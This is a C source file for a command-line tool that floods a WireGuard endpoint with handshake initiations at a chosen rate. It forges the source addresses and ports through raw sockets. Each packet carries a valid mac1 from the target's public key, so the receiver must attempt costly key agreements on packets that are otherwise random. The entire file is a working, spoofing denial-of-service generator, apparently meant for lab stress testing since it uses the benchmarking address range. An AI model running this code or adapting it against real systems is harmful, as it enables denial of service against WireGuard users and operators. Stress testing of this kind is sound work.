/* A flood of WireGuard initiations from strangers.
 *
 *   flood IP PORT KEY RATE SECONDS
 *
 * Sends RATE initiations a second to IP:PORT for SECONDS, each from another address of 198.18.0.0/15
 * (RFC 2544) and another port. All that a stranger can know is right in them: the layout, and mac1,
 * which needs only the receiver's public key (KEY, 64 hexadecimal digits); the rest is noise, so a
 * receiver finds out by a key agreement. Needs CAP_NET_RAW. Prints how many it has sent. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { SIZE = 148, MAC1 = 116, BATCH = 50, POOL = 512 };

struct packet {
    struct iphdr ip;
    struct udphdr udp;
    unsigned char message[SIZE];
} __attribute__((packed));

static uint64_t random_u64(void) { /* xorshift64 */
    static uint64_t x = 88172645463325252ull;
    x ^= x << 13, x ^= x >> 7, x ^= x << 17;
    return x;
}

static uint64_t now_ns(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000ull + t.tv_nsec;
}

/* What mac1 is keyed with: the hash of a label and the receiver's key. */
static void mac1_key(const unsigned char *public_key, unsigned char *out) {
    unsigned char input[40] = "mac1----";
    memcpy(input + 8, public_key, 32);
    if (!EVP_Digest(input, sizeof input, out, NULL, EVP_blake2s256(), NULL)) errx(1, "BLAKE2s");
}

static void write_mac1(const unsigned char *key, unsigned char *message) {
    static EVP_MAC *mac;
    size_t size = 16;
    if (!mac) mac = EVP_MAC_fetch(NULL, "BLAKE2SMAC", NULL);
    EVP_MAC_CTX *context = EVP_MAC_CTX_new(mac);
    OSSL_PARAM parameters[] = {OSSL_PARAM_construct_size_t(OSSL_MAC_PARAM_SIZE, &size), OSSL_PARAM_END};
    if (!EVP_MAC_init(context, key, 32, parameters) || !EVP_MAC_update(context, message, MAC1) ||
        !EVP_MAC_final(context, message + MAC1, &size, 16))
        errx(1, "BLAKE2SMAC");
    EVP_MAC_CTX_free(context);
}

static void make(struct packet *p, struct in_addr to, int port, const unsigned char *key) {
    memset(p, 0, sizeof *p);
    for (int i = 4; i < MAC1; i++) p->message[i] = random_u64() >> 32;
    p->message[0] = 1;
    write_mac1(key, p->message);
    p->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
                           .tot_len = htons(sizeof *p), .daddr = to.s_addr};
    p->udp.dest = htons(port), p->udp.len = htons(sizeof *p - sizeof p->ip);
}

int main(int argc, char **argv) {
    struct in_addr to;
    unsigned char public_key[32], key[32];
    if (argc != 6 || !inet_aton(argv[1], &to) || strlen(argv[3]) != 64)
        errx(2, "usage: flood IP PORT KEY RATE SECONDS");
    for (int i = 0; i < 32; i++) {
        unsigned byte;
        if (sscanf(argv[3] + 2 * i, "%2x", &byte) != 1) errx(2, "KEY is no number");
        public_key[i] = byte;
    }
    mac1_key(public_key, key);
    const uint64_t rate = strtoul(argv[4], NULL, 10), total = rate * strtoul(argv[5], NULL, 10);
    int sock = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (sock < 0) err(1, "raw socket");

    /* The same messages again and again, from other places: the receiver cannot tell, and making
     * them costs less than what they are to cost it. */
    static struct packet pool[POOL];
    for (int i = 0; i < POOL; i++) make(&pool[i], to, atoi(argv[2]), key);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr = to};
    const uint64_t start = now_ns();
    uint64_t sent = 0;
    while (sent < total) {
        struct mmsghdr m[BATCH] = {0};
        struct iovec v[BATCH];
        for (int i = 0; i < BATCH; i++) {
            struct packet *p = &pool[(sent + i) % POOL];
            uint64_t r = random_u64();
            p->ip.saddr = htonl(0xc6120000u | (r & 0x1ffff)); /* the kernel fills in the checksum */
            p->udp.source = htons(1024 + (r >> 20) % 60000);
            v[i] = (struct iovec){p, sizeof *p};
            m[i].msg_hdr = (struct msghdr){.msg_name = &address, .msg_namelen = sizeof address,
                                           .msg_iov = &v[i], .msg_iovlen = 1};
        }
        int n = sendmmsg(sock, m, BATCH, 0);
        if (n < 0) err(1, "send");
        sent += n;
        uint64_t due = start + sent * 1000000000ull / rate, now = now_ns();
        if (now > start + total / rate * 1500000000ull) break; /* a machine too slow for the rate */
        if (due > now) nanosleep(&(struct timespec){(due - now) / 1000000000ull, (due - now) % 1000000000ull}, NULL);
    }
    printf("%llu\n", (unsigned long long)sent);
}
